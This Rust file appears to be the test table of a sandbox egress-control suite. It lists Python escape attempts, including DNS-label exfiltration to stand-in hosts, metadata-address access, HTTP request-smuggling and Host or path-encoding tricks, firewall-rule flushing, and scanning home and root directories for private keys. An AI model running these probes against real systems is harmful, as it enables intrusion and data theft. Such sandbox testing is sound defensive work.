//! The table of attempts to get out.

use egress::defence::Defence::*;

use crate::attempt::{Attempt, ByEngine, DIRECT, TUNNEL, attempt};

/// Controls that several attempts share.
pub const PLAIN: &str = "demand(http('open.example.org', get('open.example.org', '/', T)), b'world says')";
pub const SECURE: &str =
    "demand(https('open.example.org', 'open.example.org', get('open.example.org', '/', T)), b'world says')";
const JUDGED: &str = "demand(http('api.example.org', get('api.example.org', '/v1/x', T)), b'world says')";
const INSIDE_TLS: &str = "demand(trusting('api.example.org', get('api.example.org', '/v1/x', T)), b'world says')";
const BANNER: &str = "s = dial('open.example.org', 9999); s.recv(99); demand(say(s, (T + '\\n').encode()), T.encode())";
pub const DATAGRAM: &str = "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(T.encode(), ('open.example.org', 5353)); demand(s.recv(99), T.encode())";

const TUNNELLED: &str = "demand(through_socket('open.example.org:443', T), b' 200 ')
demand(over_socket('GET http://open.example.org/ HTTP/1.1', 'open.example.org', T), b'world says')";

const PEER: &str = "demand(http('peer', get('peer', '/' + T), 7000), b'404')";

/// All of them.
pub const ATTEMPTS: &[Attempt] = &[
    // --- network
    attempt(
        "tcp-port-not-listed",
        "s = dial('open.example.org', 8080); demand(say(s, get('open.example.org', '/', T)), b'world')",
        PLAIN,
    )
    .against(&[Rules]),
    attempt(
        "tcp-to-a-literal",
        "s = dial('198.51.100.1', 80); demand(say(s, get('open.example.org', '/', T)), b'world')",
        PLAIN,
    )
    .against(&[Rules]),
    attempt("tcp-to-a-foreign-literal", "s = dial('192.0.2.7', 443); say(s, T.encode())", SECURE)
    .against(&[Rules]),
    attempt(
        "udp-to-a-port-not-listed",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(T.encode(), ('open.example.org', 443)); demand(s.recv(99), T.encode())",
        DATAGRAM,
    )
    .against(&[UdpPorts, Rules])
    .unaudited(),
    attempt(
        "udp-to-a-literal",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(T.encode(), ('198.51.100.1', 5353)); demand(s.recv(99), T.encode())",
        DATAGRAM,
    )
    .against_engine(ByEngine::Networks)
    .unaudited(),
    attempt(
        "udp-to-a-name-without-a-rule-for-it",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(T.encode(), ('api.example.org', 5353)); demand(s.recv(99), T.encode())",
        DATAGRAM,
    )
    .against(&[Rules]),
    attempt(
        "quic",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(b'\\xc0\\0\\0\\0\\1' + T.encode() + bytes(1200), ('198.51.100.1', 443)); s.recv(99)",
        DATAGRAM,
    )
    .against_engine(ByEngine::Networks)
    .unaudited(),
    attempt(
        "icmp",
        "try: s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
except PermissionError: s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(b'\\x08\\0\\0\\0\\0\\1\\0\\1' + T.encode(), ('192.0.2.7', 0))",
        DATAGRAM,
    )
    .against_engine(ByEngine::Confinement)
    .against(&[Filter])
    .unaudited(),
    attempt(
        "raw-socket",
        "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); s.sendto(T.encode(), ('192.0.2.7', 0))",
        DATAGRAM,
    )
    .against_engine(ByEngine::Confinement)
    .against(&[Filter])
    .unaudited(),
    attempt(
        "packet-socket",
        "s = socket.socket(17, socket.SOCK_DGRAM, 0x0300); s.sendto(T.encode(), ('lo', 0x0800))",
        DATAGRAM,
    )
    .against_engine(ByEngine::Confinement)
    .unaudited(),
    attempt(
        "vsock",
        "s = socket.socket(40, socket.SOCK_STREAM); s.settimeout(1); s.connect((2, 1024)); s.send(T.encode())",
        PLAIN,
    )
    .against_engine(ByEngine::Fixed("this machine has none"))
    .unaudited(),
    attempt("ipv6-literal", "s = dial('2001:db8::7', 80); demand(say(s, get('open.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Rules]),
    attempt("v4-mapped-literal", "s = dial('::ffff:198.51.100.1', 80); demand(say(s, get('open.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Rules]),
    attempt("metadata-literal", "s = dial('169.254.169.254', 80); demand(say(s, get('169.254.169.254', '/', T)), b'world')", PLAIN)
    .against(&[Rules, Addresses]),
    attempt("host-address", "demand(say(dial('198.51.100.2', 7777), T.encode() + b'\\n'), T.encode())", PLAIN)
    .against(&[Rules]),
    attempt(
        "gateway-of-an-internal-network",
        "demand(say(dial(gateway(), 7777), T.encode() + b'\\n'), T.encode())",
        PEER,
    )
    .against(&[Redirect, Filter])
    .stays_inside()
    .unaudited(),
    attempt(
        "datagrams-to-the-gateway",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(T.encode(), (gateway(), 7777))",
        PEER,
    )
    .against(&[Filter])
    .stays_inside()
    .unaudited(),
    attempt(
        "all-nodes-of-an-internal-network",
        "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); until = time.monotonic() + 1.5
while True:
    try: s.sendto(T.encode(), ('ff02::1', 7777, 0, socket.if_nametoindex('eth0'))); break
    except OSError as error:
        # Its own address may be too young to be used.
        if error.errno != errno.EADDRNOTAVAIL or time.monotonic() > until: raise
        time.sleep(0.1)",
        PEER,
    )
    .against(&[Ipv6])
    .stays_inside()
    .unaudited(),
    attempt("a-sandbox-on-no-common-network", "s = dial('neighbour', 7000); say(s, get('neighbour', '/' + T))", PEER)
    .against_engine(ByEngine::Networks)
        .stays_inside()
        .unaudited(),
    attempt(
        "abstract-socket-of-the-host",
        "s = socket.socket(socket.AF_UNIX); s.connect('\\0sbx-escape-test'); s.sendall(T.encode())",
        PLAIN,
    )
    .against_engine(ByEngine::Namespace)
    .unaudited(),
    attempt(
        "a-new-user-namespace-with-a-network-of-its-own",
        "libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x40000000): raise OSError('no new namespaces')
s = dial('192.0.2.7', 80); say(s, T.encode())",
        PLAIN,
    )
    .against_engine(ByEngine::Fixed("a new network begins empty, whoever makes it"))
    .unaudited(),
    attempt(
        "flushing-the-rules",
        "import subprocess
subprocess.run(['/usr/sbin/nft', 'flush', 'ruleset'], check=True)
demand(say(dial(gateway(), 7777), T.encode() + b'\\n'), T.encode())",
        PLAIN,
    )
    .against_engine(ByEngine::Confinement)
    .unaudited(),
    attempt(
        "sysctl",
        "writable('/proc/sys'); open('/proc/sys/net/ipv4/ip_forward', 'w').write('1')",
        PLAIN,
    )
    .against_engine(ByEngine::Confinement)
    .unaudited(),
    attempt(
        "adding-a-route",
        "import subprocess
subprocess.run(['ip', 'route', 'replace', 'default', 'via', '198.51.100.1', 'onlink', 'dev', 'lo'], check=True)",
        PLAIN,
    )
    .against_engine(ByEngine::Confinement)
    .unaudited(),
    // --- names
    attempt(
        "another-resolver-over-udp",
        "demand(str(ask_dns('198.51.100.1', T + '.example.net')).encode(), b'(0, 1)')",
        "demand(str(ask_dns('198.51.100.1', 'open.example.org')).encode(), b'(0, 1)')",
    )
    .against(&[Names])
    .stays_inside(),
    attempt(
        "another-resolver-over-tcp",
        "demand(str(ask_dns('198.51.100.1', T + '.example.net', tcp=True)).encode(), b'(0, 1)')",
        "demand(str(ask_dns('198.51.100.1', 'open.example.org', tcp=True)).encode(), b'(0, 1)')",
    )
    .against(&[Names])
    .stays_inside(),
    attempt("a-name-not-listed", "s = dial('other.example.net', 80); demand(say(s, get('other.example.net', '/', T)), b'world')", PLAIN)
    .against(&[Names, Rules]),
    attempt(
        "data-in-labels",
        "socket.getaddrinfo(T + '.secret-data-0123456789.example.net', 80)",
        "demand(http('a.wild.example.org', get('a.wild.example.org', '/', T)), b'world says')",
    )
    .against(&[Names]),
    attempt(
        "data-in-labels-of-a-wildcard",
        "socket.getaddrinfo(T + '.x.y.wild.example.org', 80)",
        "demand(http('a.wild.example.org', get('a.wild.example.org', '/', T)), b'world says')",
    )
    .against(&[Names]),
    attempt("a-rule-that-has-expired", "demand(http('expired.example.org', get('expired.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Expiry]),
    attempt("a-name-that-is-denied", "demand(http('denied.wild.example.org', get('denied.wild.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Deny]),
    attempt(
        "record-types",
        "found = [kind for kind in (16, 10, 255, 12, 65, 64, 15, 33, 2, 6) if ask_dns('198.18.0.1', 'open.example.org', kind)[1]]
if not found: raise OSError('no records')",
        PLAIN,
    )
    .against(&[RecordTypes])
    .unaudited(),
    attempt(
        "malformed-questions",
        "for junk in (b'', b'x', b'\\xff' * 12, question('a')[:-3], question('a') + b'\\xc0\\x0c' * 9, b'\\0\\1\\1\\0\\xff\\xff' + bytes(6) + b'\\xc0\\x0c' * 200):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(junk, ('198.18.0.1', 53))
demand(str(ask_dns('198.18.0.1', T + '.example.net')).encode(), b'(0, 1)')",
        PLAIN,
    )
    .against(&[Names])
    .unaudited(),
    attempt("dns-over-https", "https('other.example.net', 'other.example.net', get('other.example.net', '/dns-query', T))", SECURE)
    .against(&[Names, Rules]),
    attempt("dns-over-tls", "s = dial('198.51.100.1', 853); say(s, T.encode())", SECURE)
    .against(&[Rules]),
    attempt("rebinding-to-loopback", "demand(http('loopback.example.org', get('loopback.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Addresses]),
    attempt("rebinding-to-private", "demand(http('private.example.org', get('private.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Addresses]),
    attempt("rebinding-to-metadata", "demand(http('metadata.example.org', get('metadata.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Addresses]),
    attempt("alias-to-private", "demand(http('alias.example.org', get('alias.example.org', '/', T)), b'world')", PLAIN)
    .against(&[Addresses]),
    // --- TLS
    attempt(
        "sni-of-another-name",
        "https('open.example.org', 'other.example.net', get('other.example.net', '/', T))",
        SECURE,
    )
    .against(&[ServerName]),
    attempt(
        "allowed-sni-to-a-foreign-address",
        "https('192.0.2.7', 'open.example.org', get('open.example.org', '/', T))",
        SECURE,
    )
    .against(&[Rules]),
    attempt("no-sni", "https('open.example.org', None, get('open.example.org', '/', T))", SECURE)
    .against(&[ServerName]),
    attempt("sni-that-is-an-address", "https('open.example.org', '198.51.100.1', get('open.example.org', '/', T))", SECURE)
    .against(&[ServerName]),
    attempt(
        "hello-in-single-bytes",
        "https('open.example.org', 'other.example.net', get('x', '/', T), pieces=lambda h: [h[i:i+1] for i in range(len(h))])",
        "demand(https('open.example.org', 'open.example.org', get('x', '/', T), pieces=lambda h: [h[i:i+1] for i in range(len(h))]), b'world')",
    )
    .against(&[ServerName]),
    attempt(
        "hello-over-several-records",
        "https('open.example.org', 'other.example.net', get('x', '/', T), pieces=lambda h: records(h, 40))",
        "demand(https('open.example.org', 'open.example.org', get('x', '/', T), pieces=lambda h: records(h, 40)), b'world')",
    )
    .against(&[ServerName]),
    attempt(
        "long-hello",
        "https('open.example.org', 'other.example.net', get('x', '/', T), alpn=['http/1.1'] + ['x' * 250] * 12)",
        "demand(https('open.example.org', 'open.example.org', get('x', '/', T), alpn=['http/1.1'] + ['x' * 250] * 12), b'world')",
    )
    .against(&[ServerName]),
    attempt("plain-bytes-on-443", "s = dial('open.example.org', 443); s.sendall(T.encode() * 99); s.recv(9); raise OSError(s.recv(9))", SECURE)
    .against(&[Speech]),
    attempt(
        "connect-with-another-inner-name",
        "s = dial('127.0.0.1', PROXY); demand(say(s, b'CONNECT open.example.org:443 HTTP/1.1\\r\\nHost: open.example.org:443\\r\\n\\r\\n'), b' 200 ')
c = Tls('other.example.net').finish(s); c.ask(get('other.example.net', '/', T))",
        "s = dial('127.0.0.1', PROXY); demand(say(s, b'CONNECT open.example.org:443 HTTP/1.1\\r\\nHost: open.example.org:443\\r\\n\\r\\n'), b' 200 ')
c = Tls('open.example.org').finish(s); demand(c.ask(get('open.example.org', '/', T)), b'world')",
    )
    .against(&[ServerName]),
    attempt(
        "connect-to-a-port-not-listed",
        "s = dial('127.0.0.1', PROXY); demand(say(s, b'CONNECT open.example.org:8080 HTTP/1.1\\r\\nHost: open.example.org:8080\\r\\n\\r\\n'), b' 200 '); demand(say(s, get('x', '/', T)), b'world')",
        "s = dial('127.0.0.1', PROXY); demand(say(s, get('open.example.org', 'http://open.example.org/', T)), b'world')",
    )
    .against(&[Rules]),
    attempt(
        "connect-to-the-proxy-itself",
        "s = dial('127.0.0.1', PROXY); demand(say(s, f'CONNECT 127.0.0.1:{PROXY} HTTP/1.1\\r\\nHost: 127.0.0.1:{PROXY}\\r\\n\\r\\n'.encode()), b' 200 '); demand(say(s, get('x', '/', T)), b'world')",
        "s = dial('127.0.0.1', PROXY); demand(say(s, get('open.example.org', 'http://open.example.org/', T)), b'world')",
    )
    .against(&[Rules, Addresses]),
    // --- HTTP
    attempt("host-of-another-name", "demand(http('open.example.org', get('other.example.net', '/', T)), b'world')", PLAIN)
    .against(&[Host]),
    attempt(
        "host-spellings",
        "for host in ('open.example.org.evil.example', 'open.example.org:81', 'user@open.example.org', 'open.example.org\\0', 'open%2eexample.org', '[open.example.org]', '3325256705', '0306.063.0144.1', ''):
    got = http('open.example.org', get(host, '/', T))
    if b'world says' in got: break
else: raise OSError('refused in every spelling')",
        "for host in ('OPEN.example.ORG', 'open.example.org.', 'open.example.org:80'): demand(http('open.example.org', get(host, '/', T)), b'world says')",
    )
    .against(&[Host]),
    attempt(
        "absolute-form-of-another-name",
        "demand(http('open.example.org', get('open.example.org', 'http://other.example.net/', T)), b'world says')",
        "demand(http('open.example.org', get('open.example.org', 'http://open.example.org/', T)), b'world says')",
    )
    .against(&[Host]),
    attempt("two-hosts", "demand(http('open.example.org', get('open.example.org', '/', T, 'Host: other.example.net\\r\\n')), b'world says')", PLAIN)
    .against(&[Forms, Host]),
    attempt(
        "second-request-to-another-host",
        "got = http('open.example.org', get('open.example.org', '/') + get('other.example.net', '/', T)); demand(str(got.count(b'world says')).encode(), b'2')",
        "demand(http('open.example.org', get('open.example.org', '/') + get('open.example.org', '/2', T)), b'/2')",
    )
    .against(&[EveryRequest]),
    attempt("method-not-listed", "demand(http('api.example.org', get('api.example.org', '/v1/x', T, 'Content-Length: 0\\r\\n', 'POST')), b'world')", JUDGED)
    .against(&[Method]),
    attempt("path-not-listed", "demand(http('api.example.org', get('api.example.org', '/v2/x', T)), b'world')", JUDGED)
    .against(&[Path]),
    attempt(
        "path-tricks",
        "for path in ('/v1/../v2/x', '/v1/%2e%2e/v2/x', '/v1/%2E./v2/x', '/v1//../../v2', '/v1/..;/v2', '/v1\\\\..\\\\v2', '/v1/%252e%252e/v2\\0', '//v1/x', '/V1/x', '/v1/x\\t', '/v1/..', '/v1/%00'):
    if b'world says' in http('api.example.org', get('api.example.org', path, T)): break
else: raise OSError('refused in every form')",
        "for path in ('/v1/a/../x', '/v1/%7ex', '/v1/./x?q=/../v2'): demand(http('api.example.org', get('api.example.org', path, T)), b'world says')",
    )
    .against(&[CanonicalPath]),
    attempt(
        "encoded-separators",
        "for path in ('/v1/a%2fb', '/v1/..%2fv2', '/v1/a%5Cb'):
    if b'world says' in http('api.example.org', get('api.example.org', path, T)): break
else: raise OSError('refused in every form')",
        JUDGED,
    )
    .against(&[EncodedSeparators]),
    attempt(
        "header-missing",
        "demand(http('headers.example.org', get('headers.example.org', '/', T)), b'world')",
        "demand(http('headers.example.org', get('headers.example.org', '/', T, 'X-Team: acme\\r\\n')), b'world says')",
    )
    .against(&[Header]),
    attempt(
        "a-request-that-comes-back",
        "mark = http('open.example.org', get('open.example.org', '/marked')).rsplit(b'mark=', 1)[1].strip().decode()
demand(http('open.example.org', get('open.example.org', '/', T, f'Sbx-Hop: {mark}\\r\\n')), b'world says')",
        "demand(http('open.example.org', get('open.example.org', '/', T, 'Sbx-Hop: other\\r\\n')), b'world says')",
    )
    .against(&[Loop]),
    attempt(
        "smuggling",
        "inner = get('other.example.net', '/', T).decode()
forms = [f'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{inner}', f'Content-Length: 0\\r\\nContent-Length: {len(inner)}\\r\\n\\r\\n{inner}',
  f'Transfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n{inner}', f'Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n{inner}', f'X: y\\n\\n{inner}', f'X: a\\r\\n b\\r\\n\\r\\n{inner}',
  f'Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n\\r\\n0\\r\\n\\r\\n{inner}']
for form in forms: http('open.example.org', ('POST / HTTP/1.1\\r\\nHost: open.example.org\\r\\n' + form).encode())
raise OSError('what counts is what arrived')",
        "demand(http('open.example.org', b'POST / HTTP/1.1\\r\\nHost: open.example.org\\r\\nX-Token: ' + T.encode() + b'\\r\\nContent-Length: 2\\r\\n\\r\\nhi'), b'world says')",
    )
    .against(&[Forms, Host]),
    attempt(
        "h2c",
        "got = http('open.example.org', get('open.example.org', '/', T, 'Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n')); demand(got, b' 101 ')",
        PLAIN,
    )
    .against(&[H2c, Upgrade]),
    attempt("h2-with-prior-knowledge", "demand(http('open.example.org', b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + T.encode()), b'world')", PLAIN)
    .against(&[Speech]),
    attempt(
        "websocket",
        "demand(http('open.example.org', get('open.example.org', '/', T, 'Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\nSec-WebSocket-Version: 13\\r\\n')), b' 101 ')",
        "demand(http('a.wild.example.org', get('a.wild.example.org', '/', T, 'Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\nSec-WebSocket-Version: 13\\r\\n')), b' 101 ')",
    )
    .against(&[Upgrade]),
    attempt(
        "redirect",
        "import urllib.request
demand(urllib.request.urlopen('http://open.example.org/redirect', timeout=2).read(), b'landed')",
        PLAIN,
    )
    .against(&[Names, Rules]),
    attempt("server-speaks-first", "s = dial('other.example.net', 9999); s.recv(99); say(s, (T + '\\n').encode())", BANNER)
    .against(&[Names, Rules]),
    // --- HTTP inside TLS that ends at the proxy
    attempt(
        "intercepted-sni-and-host-differ",
        "demand(trusting('api.example.org', get('open.example.org', '/v1/x', T)), b'world says')",
        INSIDE_TLS,
    )
    .against(&[Host]),
    attempt("intercepted-path-not-listed", "demand(trusting('api.example.org', get('api.example.org', '/v2/x', T)), b'world says')", INSIDE_TLS)
    .against(&[Path]),
    attempt(
        "intercepted-second-request-to-another-host",
        "got = trusting('api.example.org', get('api.example.org', '/v1/x') + get('open.example.org', '/v1/x', T)); demand(str(got.count(b'world says')).encode(), b'2')",
        "demand(trusting('api.example.org', get('api.example.org', '/v1/x') + get('api.example.org', '/v1/y', T)), b'GET /v1/y')",
    )
    .against(&[EveryRequest]),
    attempt(
        "authority-key-inside",
        "import os
for top in ('/run', '/home', '/root', '/tmp', '/var', '/dev/shm', os.path.expanduser('~')):
    for directory, _, files in os.walk(top):
        for name in files:
            path = os.path.join(directory, name)
            if os.path.isfile(path) and os.access(path, os.R_OK) and b'PRIVATE ' + b'KEY' in open(path, 'rb').read(): sys.exit()
raise OSError('no key in any file')",
        INSIDE_TLS,
    )
    .against_engine(ByEngine::Fixed("no mount leads to it, and a test that could mount it would prove nothing"))
    .unaudited(),
    attempt(
        "authority-exchanged-inside",
        "writable('/run/sbx/trust'); open('/run/sbx/trust/authority.pem', 'r+').close()",
        "open('/run/sbx/trust/authority.pem').read(1)",
    )
    .against_engine(ByEngine::Confinement)
    .stays_inside()
    .unaudited(),
    // --- mode direct
    attempt(
        "direct-port-not-listed",
        "s = dial('open.example.org', 8080); demand(say(s, get('open.example.org', '/', T)), b'world')",
        SECURE,
    )
    .from(DIRECT)
    .against(&[Filter])
    .unaudited(),
    attempt("direct-foreign-literal", "demand(http('192.0.2.7', get('192.0.2.7', '/', T)), b'world')", PLAIN)
    .from(DIRECT)
    .against(&[Filter])
    .unaudited(),
    attempt(
        "direct-metadata-literal",
        "s = dial('169.254.169.254', 80); demand(say(s, get('169.254.169.254', '/', T)), b'world')",
        PLAIN,
    )
    .from(DIRECT)
    .against(&[Filter])
    .unaudited(),
    attempt(
        "direct-udp-to-a-port-not-listed",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(T.encode(), ('open.example.org', 443)); demand(s.recv(99), T.encode())",
        DATAGRAM,
    )
    .from(DIRECT)
    .against(&[Filter])
    .unaudited(),
    attempt("direct-host-address", "demand(say(dial('198.51.100.2', 7777), T.encode() + b'\\n'), T.encode())", PLAIN)
    .from(DIRECT)
    .against(&[Filter])
    .unaudited(),
    attempt(
        "direct-gateway-of-the-engine",
        "demand(say(dial(gateway(), 7777), T.encode() + b'\\n'), T.encode())",
        PLAIN,
    )
    .from(DIRECT)
    .against(&[Filter])
    .unaudited(),
    attempt("direct-foreign-resolver", "ask_dns('198.51.100.1', T + '.example.net') == (0, 1) or 1 / 0", PLAIN)
    .from(DIRECT)
    .against(&[Redirect, Filter])
    .unaudited(),
    attempt("direct-rebinding", "demand(http('private.example.org', get('private.example.org', '/', T)), b'world')", PLAIN)
    .from(DIRECT)
    .against(&[Addresses]),
    // --- transport socket
    attempt(
        "beside-the-socket",
        "s = dial('198.51.100.1', 80); demand(say(s, get('open.example.org', '/', T)), b'world')",
        TUNNELLED,
    )
    .from(TUNNEL)
    .against_engine(ByEngine::Networks)
    .unaudited(),
    attempt("socket-name-not-listed", "demand(through_socket('other.example.net:443', T), b' 200 ')", TUNNELLED)
    .from(TUNNEL)
    .against(&[Rules]),
    attempt("socket-foreign-literal", "demand(through_socket('192.0.2.7:443', T), b' 200 ')", TUNNELLED)
    .from(TUNNEL)
    .against(&[Rules]),
    attempt("socket-rebinding", "demand(through_socket('private.example.org:443', T), b' 200 ')", TUNNELLED)
    .from(TUNNEL)
    .against(&[Addresses]),
    attempt(
        "socket-host-of-another-name",
        "s = socket_proxy(); demand(tunnel(s, 'open.example.org:80'), b' 200 ')
demand(say(s, get('other.example.net', '/', T)), b'world says')",
        TUNNELLED,
    )
    .from(TUNNEL)
    .against(&[Host]),
    // --- files
    attempt("read-only-source", "open('/usr/bin/env', 'ab').write(b'x')", "open('/tmp/x', 'ab').write(b'x')")
    .against_engine(ByEngine::Fixed("the file that would be written is this machine's")).stays_inside().unaudited(),
    attempt(
        "a-capability",
        "if 'CapEff:\\t0000000000000000' in open('/proc/self/status').read(): raise OSError('none are given')",
        "open('/tmp/y', 'w')",
    )
    .against_engine(ByEngine::Confinement)
    .stays_inside()
    .unaudited(),
    attempt("masked-proc", "open('/proc/kcore', 'rb').read(1)", "open('/proc/self/status').read(1)")
    .against_engine(ByEngine::Fixed("the memory that would be read is this machine's")).stays_inside().unaudited(),
    attempt("sysrq", "open('/proc/sysrq-trigger', 'w').write('h')", "open('/proc/self/comm', 'w').write('x')")
    .against_engine(ByEngine::Fixed("the machine that would be told is this one")).stays_inside().unaudited(),
    attempt("resolv-conf", "writable('/etc/resolv.conf'); open('/etc/resolv.conf', 'a').write('x')", "open('/etc/resolv.conf').read(1)")
    .against_engine(ByEngine::Confinement).stays_inside().unaudited(),
    attempt("hosts", "writable('/etc/hosts'); open('/etc/hosts', 'a').write('198.51.100.1 x')", "open('/etc/hosts').read(1)")
    .against_engine(ByEngine::Confinement).stays_inside().unaudited(),
];
